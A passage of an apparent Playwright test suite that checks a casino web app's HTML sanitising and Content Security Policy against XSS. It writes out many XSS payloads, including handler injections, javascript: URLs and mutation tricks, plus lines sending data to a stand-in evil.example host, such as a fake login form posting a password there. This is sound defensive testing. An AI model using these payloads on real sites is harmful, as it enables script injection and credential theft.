import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { APIRequestContext, Browser, BrowserContext, Locator, Page } from '@playwright/test';
import { ROUTES } from '../apps/web/src/config/routes';
import { asReturningVisitor, expect, operatorCli, RETURNING_VISITOR_STORAGE, tacFromOutbox, test } from './support';

/**
 * XSS and the Content Security Policy in Chromium, against the built server (issue 8).
 *
 * Hostile text goes in through the paths an attacker or a careless operator has: the operator CLI
 * (site name, news, a promotion, a mission), a player's own calls (profile name, bank name, payment
 * references), a CMS row written behind the API's back (served through an intercepted answer, as
 * no call writes CMS), and the URL (?redirect, the 404 path). Every trick calls window.__xss(label)
 * if it ever runs. Pages are watched for that, for native dialogs, and for every CSP violation:
 * Chromium fires a securitypolicyviolation event for each (and logs most to the console). Every
 * route of the app's route table is then visited on two templates, as a visitor and as a player,
 * and none may report anything. Only where hostile HTML reaches the browser unsanitised (the CMS,
 * rows written behind the API's back) does Chromium report the handlers it parsed as blocked.
 *
 * casino2 (Chinese, yuan; shown in English through the language cookie) is this file's own and
 * holds the hostile content. sportsbook1 (the login-modal template, with the live chat hosts in its
 * CSP) is only read, with the demo player.
 */
const port = Number(process.env.E2E_PORT ?? 3199);
const siteUrl = (host: string, path = '/') => `http://${host}:${port}${path}`;

const HOSTILE_SITE = 'casino2.localhost';
const HOSTILE_SITE_SEEDED_NAME = 'Golden Dragon Casino';
const SEEDED_SITE = 'sportsbook1.localhost';
const DEMO = { accountId: 'demo', password: 'Demo-play-2026' };
const BUILT_IN_GAME = { path: '/playnow?provider_code=WLGAMES&game_code=lucky_lantern', name: 'Lucky Lantern' };

/** The function every payload calls if it runs, and the one the page reports CSP violations to. */
const MARKER = '__xss';
const VIOLATION_REPORT = '__reportCspViolation';
const mark = (label: string) => `${MARKER}('${label}')`;

/** One-line tricks for plain-text fields: each runs if the text is ever parsed as HTML or breaks out of an attribute. */
const HOSTILE_TEXT = {
  siteName: `"><img src=x onerror=${mark('site name')}>`,
  newsTitle: `<script>${mark('news title')}</script> Hostile news`,
  newsImage: `x" onerror="${mark('news image')}`,
  promotionTitle: `"><svg onload=${mark('promotion title')}> Hostile promotion`,
  promotionImage: `javascript:${mark('promotion image')}`,
  missionTitle: `<img src=x onerror=${mark('mission title')}> Hostile mission`,
  bankName: `"><img src=x onerror=${mark('bank name')}>`,
  paymentReference: `<svg onload=${mark('payment reference')}>`,
  receiptReference: `<iframe srcdoc="<script>parent.${mark('receipt reference')}</script>">`,
};

const HOSTILE_NAMES = [
  `<script>${mark('full name')}</script>`,
  `"><img src=x onerror=${mark('full name')}>`,
  `javascript:${mark('full name')}`,
];

/**
 * An HTML body an operator might paste (or an attacker might get into a row): a heading and a
 * paragraph that must survive, and every trick that must not. The labels name the field and trick.
 */
function hostileHtml(field: string): string {
  const run = (trick: string) => mark(`${field}: ${trick}`);
  return [
    `<h2>${field} heading</h2>`,
    `<p>${field} benign paragraph with <strong>bold</strong> text.</p>`,
    `"><script>${run('attribute breakout')}</script>`,
    `<script>${run('script')}</script>`,
    `<img src="x" onerror="${run('img onerror')}">`,
    `<svg onload="${run('svg onload')}"><circle r="4"></circle></svg>`,
    `<a href="javascript:${run('javascript link')}">${field} javascript link</a>`,
    `<a href="jav&#x09;ascript:${run('obfuscated link')}">${field} obfuscated link</a>`,
    `<iframe srcdoc="<script>parent.${run('iframe srcdoc')}</script>"></iframe>`,
    `<noscript><p title="</noscript><img src=x onerror=${run('noscript mutation')}>"></p></noscript>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${run('math mutation')}></style></mglyph></table></mtext></math>`,
    `<div style="background-image: url(javascript:${run('style url')})">${field} styled block</div>`,
    `<div style="position: fixed; inset: 0; z-index: 2147483647; background: #fff">${field} page overlay</div>`,
    '<style>@import url("https://evil.example/steal.css"); body { background: url("https://evil.example/pixel.png"); }</style>',
    '<link rel="stylesheet" href="https://evil.example/steal.css">',
    `<form action="https://evil.example/steal"><input name="password" autofocus onfocus="${run('autofocus')}"><button>Log in again</button></form>`,
    `<details open ontoggle="${run('details ontoggle')}"><summary>${field} details</summary></details>`,
    `<object data="javascript:${run('object')}"></object>`,
    `<embed src="javascript:${run('embed')}">`,
    `<video><source onerror="${run('video source')}"></video>`,
    `<meta http-equiv="refresh" content="0; url=javascript:${run('meta refresh')}">`,
    '<base href="https://evil.example/">',
  ].join('\n');
}

/** Elements that have no place in a cleaned body: script, frames, plugins, forms, styles, SVG and MathML. */
const FORBIDDEN_ELEMENTS = [
  'script',
  'iframe',
  'frame',
  'object',
  'embed',
  'svg',
  'math',
  'mglyph',
  'style',
  'link',
  'meta',
  'base',
  'form',
  'input',
  'button',
  'details',
  'noscript',
  'video',
  'source',
  'template',
];
/** Attributes that run script, load styles or send data, and URLs with a script scheme. */
const FORBIDDEN_ATTRIBUTE = /^(on.*|style|srcdoc|srcset|action|formaction|xlink:href|http-equiv)$/i;
const SCRIPT_URL = /^\s*(javascript|vbscript|data):/i;

interface Finding {
  kind: 'csp violation' | 'console' | 'script ran' | 'dialog';
  url: string;
  detail: string;
}

interface ReportedViolation {
  directive: string;
  blocked: string;
  source: string;
  line: number;
  sample: string;
}

/** How long the page must go without a request before it counts as settled, and the longest wait. */
const QUIET_MS = 200;
const SETTLE_LIMIT_MS = 10_000;

/**
 * Watches one page (and its frames) for what must never happen: a CSP violation (the event, or
 * its console message), a payload that ran, a native dialog. Also knows when the page
 * has gone quiet, so a visit lasts until the page has loaded what it loads.
 */
class PageWatch {
  readonly findings: Finding[] = [];
  private inFlight = 0;
  private lastRequestChange = Date.now();

  private constructor(private readonly page: Page) {}

  static async start(page: Page): Promise<PageWatch> {
    const watch = new PageWatch(page);
    await page.exposeBinding(VIOLATION_REPORT, ({ frame }, violation: ReportedViolation) => {
      watch.findings.push({
        kind: 'csp violation',
        url: frame.url(),
        detail:
          `${violation.directive} blocked ${violation.blocked || '(nothing named)'} at ${violation.source}:${violation.line} ${violation.sample}`.trim(),
      });
    });
    await page.exposeBinding(MARKER, ({ frame }, label: string) => {
      watch.findings.push({ kind: 'script ran', url: frame.url(), detail: label });
    });
    await page.addInitScript((report) => {
      document.addEventListener(
        'securitypolicyviolation',
        (event) => {
          const send = (window as unknown as Record<string, (violation: ReportedViolation) => void>)[report];
          send?.({
            directive: event.effectiveDirective,
            blocked: event.blockedURI,
            source: event.sourceFile,
            line: event.lineNumber,
            sample: event.sample,
          });
        },
        true,
      );
    }, VIOLATION_REPORT);
    page.on('console', (message) => {
      if (/Content Security Policy|Refused to/.test(message.text())) {
        watch.findings.push({ kind: 'console', url: page.url(), detail: message.text() });
      }
    });
    page.on('dialog', (dialog) => {
      watch.findings.push({ kind: 'dialog', url: page.url(), detail: `${dialog.type()}: ${dialog.message()}` });
      void dialog.dismiss();
    });
    const started = () => {
      watch.inFlight++;
      watch.lastRequestChange = Date.now();
    };
    const ended = () => {
      watch.inFlight--;
      watch.lastRequestChange = Date.now();
    };
    page.on('request', started);
    page.on('requestfinished', ended);
    page.on('requestfailed', ended);
    return watch;
  }

  /**
   * Waits until no request has been open for a moment and the page's main thread is idle with
   * none started meanwhile, so a route has rendered what its data brought (or the limit passed:
   * some pages never go fully quiet).
   */
  async settle(): Promise<void> {
    const deadline = Date.now() + SETTLE_LIMIT_MS;
    while (Date.now() < deadline) {
      if (this.inFlight > 0 || Date.now() - this.lastRequestChange < QUIET_MS) {
        await this.page.waitForTimeout(25);
        continue;
      }
      const quietSince = this.lastRequestChange;
      await this.page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve, { timeout: 2_000 })));
      if (this.inFlight <= 0 && this.lastRequestChange === quietSince) return;
    }
  }

  clear(): void {
    this.findings.length = 0;
  }
}

async function watchedPage(context: BrowserContext): Promise<{ page: Page; watch: PageWatch }> {
  const page = await context.newPage();
  return { page, watch: await PageWatch.start(page) };
}

/** A context that sees the site in English and has already seen its first-visit modals. */
async function englishContext(browser: Browser, host: string): Promise<BrowserContext> {
  const context = await asReturningVisitor(await browser.newContext());
  await context.addCookies([{ name: 'lang', value: 'EN', url: siteUrl(host) }]);
  return context;
}

/** A route change inside the running app, as its own links make: the document and its CSP stay. */
async function navigateInApp(page: Page, path: string): Promise<void> {
  await page.evaluate((target) => {
    window.history.pushState(null, '', target);
    window.dispatchEvent(new PopStateEvent('popstate'));
  }, path);
}

/** The CMS pages and the route that shows each. */
const CMS_ROUTES = {
  about_us: '/about',
  privacy_policy: '/privacy-policy',
  responsible_gaming: '/responsible-gaming',
  banking: '/banking',
  faqs: '/faqs',
  term_condition: '/term-condition',
} as const;

/**
 * Serves the site's CMS as if an operator had pasted hostile HTML into every page and language,
 * straight into the database: only the browser's own sanitiser stands between it and the page.
 */
async function serveHostileCms(context: BrowserContext): Promise<void> {
  await context.route('**/api/settings/siteinfodetail', async (route) => {
    // Playwright fetches from Node, which does not resolve *.localhost; the body names the site anyway.
    const response = await route.fetch({ url: `http://127.0.0.1:${port}/api/settings/siteinfodetail` });
    const answer = await response.json();
    if (answer.statusCode === 1) {
      for (const page of Object.keys(CMS_ROUTES)) {
        answer.cms[`en_${page}`] = hostileHtml(`cms ${page}`);
        answer.cms[`local_${page}`] = hostileHtml(`cms ${page}`);
        answer.cms[`${page}_status`] = true;
      }
    }
    await route.fulfill({ response, json: answer });
  });
}

/**
 * Checks a body that held hostileHtml(field): the harmless parts are there, nothing that could
 * run, restyle the page or send data is left, and clicking the former javascript: link does nothing.
 */
async function expectCleaned(body: Locator, field: string): Promise<void> {
  await expect(body.getByRole('heading', { name: `${field} heading` })).toBeVisible();
  await expect(body.getByText(`${field} benign paragraph with bold text.`)).toBeVisible();
  const markup = await body.evaluate((element) =>
    [...element.querySelectorAll('*')].map((node) => ({
      tag: node.localName,
      attributes: [...node.attributes].map((attribute) => ({ name: attribute.name, value: attribute.value })),
    })),
  );
  expect(markup.filter((node) => FORBIDDEN_ELEMENTS.includes(node.tag)).map((node) => node.tag)).toEqual([]);
  const risky = markup.flatMap((node) =>
    node.attributes
      .filter(
        (attribute) => FORBIDDEN_ATTRIBUTE.test(attribute.name) || SCRIPT_URL.test(attribute.value.replace(/[\t\n\r]/g, '')),
      )
      .map((attribute) => `${node.tag}[${attribute.name}="${attribute.value}"]`),
  );
  expect(risky).toEqual([]);
  const lure = body.getByText(`${field} javascript link`);
  await expect(lure).toBeVisible();
  const before = body.page().url();
  await lure.click();
  expect(body.page().url()).toBe(before);
}

/**
 * What Chromium reports while a sanitiser in the page merely parses hostile HTML: each inline
 * handler attribute and the <base> element are checked against the CSP as they are parsed (even in
 * a DOMParser document, where nothing runs) and reported as blocked. Anything else (a script element,
 * a javascript: URL, a style or frame from elsewhere, a handler that fired) would be another report.
 */
function parserReportsOnly(findings: Finding[]): Finding[] {
  return findings.filter(
    (finding) =>
      !(
        (finding.kind === 'csp violation' &&
          /^(script-src-attr blocked inline|base-uri blocked https:\/\/evil\.example\/) /.test(finding.detail)) ||
        (finding.kind === 'console' &&
          /^(Executing inline event handler violates|Setting the document's base URI to 'https:\/\/evil\.example\/' violates)/.test(
            finding.detail,
          ))
      ),
  );
}

/** A call of the player API from Node, as a script of the attacker's own would make it. */
async function call<T = Record<string, any>>(request: APIRequestContext, path: string, body: object): Promise<T> {
  return (await request.post(`http://127.0.0.1:${port}${path}`, { data: body })).json() as Promise<T>;
}

async function siteOf(request: APIRequestContext, host: string) {
  const startup = await call(request, '/api/startup', { domain_name: host });
  return { domain_name: host, external_id: startup.site.external_id as string };
}

/** A Chinese mobile number; each player its own, as the server limits signups per phone. */
const chinesePhone = () => `+86138${String(Math.floor(Math.random() * 10 ** 8)).padStart(8, '0')}`;
const uniqueId = (prefix: string) => `${prefix}${Date.now().toString(36)}${Math.floor(Math.random() * 36 ** 2).toString(36)}`;

/** Signs a new player up and verifies the code from the outbox: an active player and its session token. */
async function newPlayer(request: APIRequestContext, host: string, password: string) {
  const site = await siteOf(request, host);
  const accountId = uniqueId('xss');
  const signup = await call(request, '/api/auth/signup', {
    ...site,
    account_id: accountId,
    password,
    contact_phone: chinesePhone(),
    age_confirmed: true,
    terms_accepted: true,
  });
  expect(signup.statusCode).toBe(1);
  const verified = await call(request, '/api/auth/tac/verify', {
    ...site,
    account_id: accountId,
    tac: tacFromOutbox(host, accountId),
  });
  expect(verified.statusCode).toBe(1);
  return { accountId, token: verified.token as string };
}

/** Saves an operator file (promotion, mission, news) through the CLI and answers the new item's id. */
function cliSave(directory: string, command: string, host: string, content: object): number {
  const file = join(directory, `${command.replace(':', '-')}.json`);
  writeFileSync(file, JSON.stringify(content));
  const id = operatorCli(command, host, '--file', file).match(/^#(\d+) /)?.[1];
  if (!id) throw new Error(`${command} answered no id`);
  return Number(id);
}

async function logInThroughForm(page: Page, host: string, accountId: string, password: string, query = ''): Promise<void> {
  await page.goto(siteUrl(host, `/login${query}`));
  await page.getByLabel('Account ID', { exact: true }).fill(accountId);
  await page.getByLabel('Password', { exact: true }).fill(password);
  await page.getByRole('main').getByRole('button', { name: 'Log in', exact: true }).click();
  await expect(page.getByRole('button', { name: 'Log out' }).first()).toBeVisible();
  // The login page moves on to the home page (a ?redirect of another site or scheme is dropped).
  await expect(page).toHaveURL(siteUrl(host, '/'));
}

/** The id of the first item a list call answers (the newest article, the first promotion on offer). */
async function firstId(request: APIRequestContext, host: string, path: string, key: 'news_id' | 'promotion_id'): Promise<number> {
  const answer = await call(request, path, { ...(await siteOf(request, host)), language: 'EN' });
  const id = answer.value?.[0]?.[key];
  if (typeof id !== 'number') throw new Error(`${path} on ${host} answered no ${key}`);
  return id;
}

/** The routes of the app's route table: visitor pages, player pages, and their query-string variants. */
const VISITOR_ROUTES = ROUTES.filter((route) => !route.auth).map((route) => route.path);
const PLAYER_ROUTES = ROUTES.filter((route) => route.auth).map((route) =>
  route.path === '/playnow' ? BUILT_IN_GAME.path : route.path,
);
/** A 404 whose path is itself a payload: the page shows the path it did not find. */
const HOSTILE_404 = `/no-such-page/%3Cimg%20src=x%20onerror=${encodeURIComponent(mark('404 path'))}%3E`;

/**
 * Visits each path as a route change inside the running app (the way its links move a player
 * around, and light enough to stay inside the API's per-address rate limit) and waits for the page
 * to settle. The document and its CSP stay those of the first page load; the header test above
 * shows every route's HTML answer carries the same policy.
 */
async function sweep(page: Page, watch: PageWatch, paths: string[]): Promise<string[]> {
  const landed: string[] = [];
  for (const path of paths) {
    await navigateInApp(page, path);
    await watch.settle();
    if (path === BUILT_IN_GAME.path) {
      // The game's own page runs in the frame, under its own CSP: wait until it is playable.
      const game = page.frameLocator(`iframe[title="${BUILT_IN_GAME.name}"]`);
      await expect(game.getByRole('button', { name: 'Spin' })).toBeEnabled();
      await watch.settle();
    }
    const url = new URL(page.url());
    landed.push(url.pathname + url.search);
  }
  return landed;
}

/** The parts of a policy, by directive. */
function directives(policy: string): Record<string, string[]> {
  return Object.fromEntries(
    policy
      .split(';')
      .map((part) => part.trim().split(/\s+/))
      .filter(([name]) => name)
      .map(([name, ...sources]) => [name!, sources]),
  );
}

test('the watch catches eval, an inline script, an inline handler, a dialog and a payload that runs', async ({ browser }) => {
  const { page, watch } = await watchedPage(await englishContext(browser, SEEDED_SITE));
  await page.goto(siteUrl(SEEDED_SITE, '/'));
  await watch.settle();
  watch.clear();

  const ran = await page.evaluate(async (marker) => {
    // From a task of the page's own: code run by page.evaluate itself may compile strings.
    const evaluated = await new Promise<boolean>((resolve) =>
      setTimeout(() => {
        try {
          resolve(new Function('return true')());
        } catch {
          resolve(false);
        }
      }),
    );
    const script = document.createElement('script');
    script.textContent = 'window.inlineScriptRan = true';
    document.head.append(script);
    const image = document.createElement('img');
    image.setAttribute('onerror', `${marker}('inline handler')`);
    image.src = '/missing-image.png';
    document.body.append(image);
    await new Promise((resolve) => image.addEventListener('error', resolve));
    return evaluated || ((window as unknown as { inlineScriptRan?: boolean }).inlineScriptRan ?? false);
  }, MARKER);
  expect(ran).toBe(false);
  await expect
    .poll(() => watch.findings.filter((finding) => finding.kind === 'csp violation').map((finding) => finding.detail))
    .toEqual([
      expect.stringMatching(/^script-src blocked eval /),
      expect.stringMatching(/^script-src-elem blocked inline /),
      expect.stringMatching(/^script-src-attr blocked inline /),
    ]);
  expect(watch.findings.filter((finding) => finding.kind === 'console').map((finding) => finding.detail)).toEqual([
    expect.stringMatching(/^Executing inline script violates the following Content Security Policy directive 'script-src /),
    expect.stringMatching(
      /^Executing inline event handler violates the following Content Security Policy directive 'script-src /,
    ),
  ]);

  // The marker reports a payload that got to run, whatever stopped the others; a native dialog is reported too.
  watch.clear();
  await page.evaluate((marker) => (window as unknown as Record<string, (label: string) => void>)[marker]!('sanity'), MARKER);
  await page.evaluate(() => window.alert('sanity'));
  await expect
    .poll(() => watch.findings)
    .toEqual([
      { kind: 'script ran', url: siteUrl(SEEDED_SITE, '/'), detail: 'sanity' },
      { kind: 'dialog', url: siteUrl(SEEDED_SITE, '/'), detail: 'alert: sanity' },
    ]);
  await page.context().close();
});

test('every HTML answer carries the CSP: scripts from the site and its trusted hosts only, never inline or eval', async ({
  request,
}) => {
  expect(ROUTES.length).toBeGreaterThan(40);
  const get = async (host: string, path: string) => {
    const response = await request.get(`http://127.0.0.1:${port}${path}`, { headers: { host: `${host}:${port}` } });
    expect(response.status(), `${host}${path}`).toBe(200);
    expect(response.headers()['content-type'], `${host}${path}`).toContain('text/html');
    return directives(response.headers()['content-security-policy'] ?? '');
  };
  const trustedHosts = { [HOSTILE_SITE]: [], [SEEDED_SITE]: ['https://*.tawk.to', 'wss://*.tawk.to'] };
  for (const [host, hosts] of Object.entries(trustedHosts)) {
    for (const path of [...ROUTES.map((route) => route.path), BUILT_IN_GAME.path, HOSTILE_404]) {
      const policy = await get(host, path);
      expect(policy['script-src'], `${host}${path}`).toEqual(["'self'", ...hosts]);
      expect(policy['default-src'], `${host}${path}`).toEqual(["'self'"]);
      expect(policy['object-src'], `${host}${path}`).toEqual(["'none'"]);
      expect(policy['base-uri'], `${host}${path}`).toEqual(["'self'"]);
      expect(policy['form-action'], `${host}${path}`).toEqual(["'self'"]);
      expect(policy['frame-ancestors'], `${host}${path}`).toEqual(["'none'"]);
      // Inline styles are the only inline content the policy allows; nothing may evaluate strings.
      const loosened = Object.entries(policy).filter(
        ([name, sources]) => sources.includes("'unsafe-eval'") || (name !== 'style-src' && sources.includes("'unsafe-inline'")),
      );
      expect(loosened, `${host}${path}`).toEqual([]);
    }
  }
  // The built-in game's page may be framed by the site itself, and nothing else loosens.
  const game = await get(HOSTILE_SITE, '/provider/wlgames/play?token=any&game=lucky_lantern');
  expect(game['frame-ancestors']).toEqual(["'self'"]);
  expect(game['script-src']).toEqual(["'self'"]);
  expect(game['object-src']).toEqual(["'none'"]);
});

test.describe('hostile content on casino2', () => {
  const password = 'Hostile-player-2026';
  let player: { accountId: string; token: string };
  let planted: { newsId: number; promotionId: number; missionId: number };
  let files: string;

  test.beforeAll(async ({ request }) => {
    files = mkdtempSync(join(tmpdir(), 'wl-e2e-xss-'));
    const startsAt = new Date(Date.now() - 60_000).toISOString();
    operatorCli('site:update', HOSTILE_SITE, '--name', HOSTILE_TEXT.siteName, '--reason', 'e2e: hostile site name');
    planted = {
      newsId: cliSave(files, 'news:save', HOSTILE_SITE, {
        title: { EN: HOSTILE_TEXT.newsTitle },
        body: { EN: hostileHtml('news body'), CN: hostileHtml('news body') },
        image: HOSTILE_TEXT.newsImage,
        published_at: startsAt,
      }),
      promotionId: cliSave(files, 'promotion:save', HOSTILE_SITE, {
        title: { EN: HOSTILE_TEXT.promotionTitle },
        terms: { EN: hostileHtml('promotion terms'), CN: hostileHtml('promotion terms') },
        rules: { kind: 'cashback', percent: 5, cap: 100, period: 'weekly' },
        starts_at: startsAt,
      }),
      missionId: cliSave(files, 'mission:save', HOSTILE_SITE, {
        kind: 'login',
        period: 'daily',
        title: { EN: HOSTILE_TEXT.missionTitle },
        target: 1,
        reward_type: 'token',
        reward_amount: 1,
        starts_at: startsAt,
      }),
    };

    // A player who writes what the calls let through into every text of their own.
    player = await newPlayer(request, HOSTILE_SITE, password);
    const auth = { auth: player.token, account_id: player.accountId };
    const bank = await call(request, '/api/wallet/bank_account_add', {
      ...auth,
      bank_name: HOSTILE_TEXT.bankName,
      holder_name: 'Li Wei',
      account_number: '6222020200112233',
    });
    expect(bank.statusCode).toBe(1);
    const deposit = await call(request, '/api/wallet/deposit', {
      ...auth,
      amount: 100,
      method: 'e_wallet',
      payment_reference: HOSTILE_TEXT.paymentReference,
      receipt_reference: HOSTILE_TEXT.receiptReference,
      idempotency_key: `xss-${player.accountId}`,
    });
    expect(deposit.statusCode).toBe(1);
  });

  test.afterAll(() => {
    operatorCli('site:update', HOSTILE_SITE, '--name', HOSTILE_SITE_SEEDED_NAME, '--reason', 'e2e: seeded name back');
    if (planted) {
      operatorCli('news:hide', HOSTILE_SITE, String(planted.newsId), '--reason', 'e2e: hostile article');
      operatorCli('promotion:end', HOSTILE_SITE, String(planted.promotionId), '--reason', 'e2e: hostile promotion');
      operatorCli('mission:end', HOSTILE_SITE, String(planted.missionId), '--reason', 'e2e: hostile mission');
    }
    if (files) rmSync(files, { recursive: true, force: true });
  });

  test('news bodies and promotion terms are cleaned when saved and again in the browser', async ({ browser, request }) => {
    // What the server stored from the CLI: sanitize-html removed the tricks on the way in.
    const site = await siteOf(request, HOSTILE_SITE);
    const stored = [
      (await call(request, '/api/news/detail', { ...site, language: 'EN', news_id: planted.newsId })).value.body,
      (await call(request, '/api/promotion/detail', { ...site, language: 'EN', promotion_id: planted.promotionId })).value.terms,
    ];
    for (const html of stored) {
      expect(html).toContain('benign paragraph');
      expect(html).not.toMatch(/<(script|iframe|svg|math|style|link|meta|base|form|input|object|embed|details|video)\b/i);
      expect(html).not.toMatch(/\s(on\w+|style|srcdoc)=|javascript:|jav(&#x09;|\t)ascript/i);
    }

    const { page, watch } = await watchedPage(await englishContext(browser, HOSTILE_SITE));
    await page.goto(siteUrl(HOSTILE_SITE, `/news?id=${planted.newsId}`));
    const article = page.getByRole('article', { name: HOSTILE_TEXT.newsTitle });
    await expect(article.getByRole('heading', { name: HOSTILE_TEXT.newsTitle })).toHaveText(HOSTILE_TEXT.newsTitle);
    await expectCleaned(article.locator('.news-body'), 'news body');
    // The image path stays one attribute value: no element gained a handler from it.
    await expect(article.locator('.news-image')).toBeVisible();
    await expect(page.locator('[onerror], [onload]')).toHaveCount(0);

    await page.goto(siteUrl(HOSTILE_SITE, `/promotions?id=${planted.promotionId}`));
    const promotion = page.getByRole('article', { name: HOSTILE_TEXT.promotionTitle });
    await expect(promotion.getByRole('heading', { name: HOSTILE_TEXT.promotionTitle })).toHaveText(HOSTILE_TEXT.promotionTitle);
    await expectCleaned(promotion.locator('.promotion-terms'), 'promotion terms');
    await watch.settle();
    expect(watch.findings).toEqual([]);

    // A row written by other means reaches the browser as it is: DOMPurify alone cleans it, and
    // Chromium reports the handlers it parsed as blocked; nothing else may be reported.
    await page.route('**/api/news/detail', async (route) => {
      const response = await route.fetch({ url: `http://127.0.0.1:${port}/api/news/detail` });
      const answer = await response.json();
      answer.value.body = hostileHtml('raw news body');
      await route.fulfill({ response, json: answer });
    });
    await page.route('**/api/promotion/detail', async (route) => {
      const response = await route.fetch({ url: `http://127.0.0.1:${port}/api/promotion/detail` });
      const answer = await response.json();
      answer.value.terms = hostileHtml('raw promotion terms');
      await route.fulfill({ response, json: answer });
    });
    await page.goto(siteUrl(HOSTILE_SITE, `/news?id=${planted.newsId}`));
    await expectCleaned(page.locator('.news-body'), 'raw news body');
    await page.goto(siteUrl(HOSTILE_SITE, `/promotions?id=${planted.promotionId}`));
    await expectCleaned(page.locator('.promotion-terms'), 'raw promotion terms');
    await watch.settle();
    expect(parserReportsOnly(watch.findings)).toEqual([]);
    await page.context().close();
  });

  test('CMS bodies written straight into the database are cleaned in the browser', async ({ browser }) => {
    const context = await englishContext(browser, HOSTILE_SITE);
    await serveHostileCms(context);
    const { page, watch } = await watchedPage(context);
    await page.goto(siteUrl(HOSTILE_SITE, '/'));
    for (const [cmsPage, path] of Object.entries(CMS_ROUTES)) {
      await navigateInApp(page, path);
      await expectCleaned(page.locator('.info-body'), `cms ${cmsPage}`);
    }
    await watch.settle();
    expect(parserReportsOnly(watch.findings)).toEqual([]);
    await context.close();
  });

  test("an operator's image path is only ever an image address", () => {
    const saveWithImage = () =>
      cliSave(files, 'promotion:save', HOSTILE_SITE, {
        title: { EN: 'Promotion with a script for an image' },
        terms: { EN: '<p>Terms.</p>' },
        image: HOSTILE_TEXT.promotionImage,
        rules: { kind: 'cashback', percent: 5, cap: 100, period: 'daily' },
        starts_at: new Date(Date.now() - 60_000).toISOString(),
      });
    // Refused when saved (the contract's isSafeImageSource), so no page ever gets a javascript: image.
    expect(saveWithImage).toThrow(/image: invalid/);
  });

  test("the operator's plain texts show as text: site name, news, promotion and mission titles", async ({ browser }) => {
    const { page, watch } = await watchedPage(await englishContext(browser, HOSTILE_SITE));
    await page.goto(siteUrl(HOSTILE_SITE, '/'));
    await expect(page.getByRole('heading', { level: 1 })).toHaveText(`Welcome to ${HOSTILE_TEXT.siteName}`);
    await expect(page.getByRole('region', { name: 'Latest news' }).getByText(HOSTILE_TEXT.newsTitle)).toBeVisible();

    await page.goto(siteUrl(HOSTILE_SITE, '/promotions'));
    await expect(page.getByRole('heading', { level: 2, name: HOSTILE_TEXT.promotionTitle })).toHaveText(
      HOSTILE_TEXT.promotionTitle,
    );
    // The title also goes into the details link's label: an attribute it must not break out of.
    await expect(
      page.getByRole('link', { name: new RegExp(HOSTILE_TEXT.promotionTitle.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')) }),
    ).toBeVisible();

    await logInThroughForm(page, HOSTILE_SITE, player.accountId, password);
    await page.goto(siteUrl(HOSTILE_SITE, '/mission'));
    await expect(page.getByRole('article', { name: HOSTILE_TEXT.missionTitle })).toBeVisible();
    await watch.settle();
    expect(watch.findings).toEqual([]);
    await page.context().close();
  });

  test("a player's own texts cannot carry script: names are refused, bank and payment texts show as text", async ({
    browser,
    request,
  }) => {
    for (const fullName of HOSTILE_NAMES) {
      const answer = await call(request, '/api/settings/profile_update', {
        auth: player.token,
        account_id: player.accountId,
        full_name: fullName,
        contact_email: '',
      });
      expect(answer, fullName).toMatchObject({
        message: 'validationFailed',
        errors: [{ field: 'full_name', key: 'lettersOnly' }],
      });
    }

    const { page, watch } = await watchedPage(await englishContext(browser, HOSTILE_SITE));
    // A crafted ?redirect is dropped after login: the player lands on the home page.
    await logInThroughForm(
      page,
      HOSTILE_SITE,
      player.accountId,
      password,
      `?redirect=${encodeURIComponent(`javascript:${mark('redirect')}`)}`,
    );

    await page.goto(siteUrl(HOSTILE_SITE, '/profile'));
    await expect(
      page.getByRole('region', { name: 'Account details' }).getByText(player.accountId, { exact: true }),
    ).toBeVisible();
    await expect(page.getByText(HOSTILE_NAMES[0]!)).toHaveCount(0);

    await page.goto(siteUrl(HOSTILE_SITE, '/bank-details'));
    await expect(page.getByText(HOSTILE_TEXT.bankName, { exact: true })).toBeVisible();
    await page.goto(siteUrl(HOSTILE_SITE, '/deposit'));
    await expect(page.getByText(`E-wallet · ${HOSTILE_TEXT.paymentReference}`)).toBeVisible();
    await expect(page.getByText(HOSTILE_TEXT.receiptReference)).toBeVisible();
    await page.goto(siteUrl(HOSTILE_SITE, '/withdrawal'));
    await expect(page.locator('option', { hasText: HOSTILE_TEXT.bankName })).toHaveCount(1);
    await page.goto(siteUrl(HOSTILE_SITE, '/transaction-history'));
    await expect(page.getByText(HOSTILE_TEXT.paymentReference).first()).toBeVisible();
    await watch.settle();
    expect(watch.findings).toEqual([]);
    await page.context().close();
  });

  test('every visitor page of casino2 holds its hostile content without a CSP violation', async ({ browser }) => {
    test.slow();
    const { page, watch } = await watchedPage(await englishContext(browser, HOSTILE_SITE));
    // The 404 page comes from a first page load: the server's catch-all answers the app's HTML.
    await page.goto(siteUrl(HOSTILE_SITE, HOSTILE_404));
    await expect(page.getByText(/^Page not found: .*onerror/)).toBeVisible();
    const paths = [
      ...VISITOR_ROUTES,
      `/news?id=${planted.newsId}`,
      `/promotions?id=${planted.promotionId}`,
      // A visitor on a player page is sent to log in.
      '/inbox',
    ];
    const landed = await sweep(page, watch, paths);
    expect(watch.findings).toEqual([]);
    expect(landed).toEqual([...paths.slice(0, -1), '/login?redirect=%2Finbox']);
    await page.context().close();
  });

  test('every player page of casino2 holds its hostile content without a CSP violation', async ({ browser }) => {
    test.slow();
    const { page, watch } = await watchedPage(await englishContext(browser, HOSTILE_SITE));
    await logInThroughForm(page, HOSTILE_SITE, player.accountId, password);
    const paths = [...PLAYER_ROUTES, '/', `/news?id=${planted.newsId}`, `/promotions?id=${planted.promotionId}`];
    const landed = await sweep(page, watch, paths);
    expect(watch.findings).toEqual([]);
    expect(landed).toEqual(paths);
    await page.context().close();
  });
});

test.describe('the seeded sportsbook1', () => {
  test('every visitor page, the first-visit modals and the 404 page load without a CSP violation', async ({
    browser,
    request,
  }) => {
    test.slow();
    const context = await browser.newContext();
    await context.addCookies([{ name: 'lang', value: 'EN', url: siteUrl(SEEDED_SITE) }]);
    const { page, watch } = await watchedPage(context);
    // A first visit: the announcement comes up over the home page; from then on the visitor has seen it.
    await page.goto(siteUrl(SEEDED_SITE, '/'));
    await expect(page.getByRole('dialog')).toHaveAttribute('data-modal', 'announcement');
    await watch.settle();
    await page.evaluate((storage) => {
      for (const [key, value] of Object.entries(storage)) localStorage.setItem(key, value);
    }, RETURNING_VISITOR_STORAGE);
    await page.goto(siteUrl(SEEDED_SITE, HOSTILE_404));
    await expect(page.getByText(/^Page not found: .*onerror/)).toBeVisible();
    const paths = [
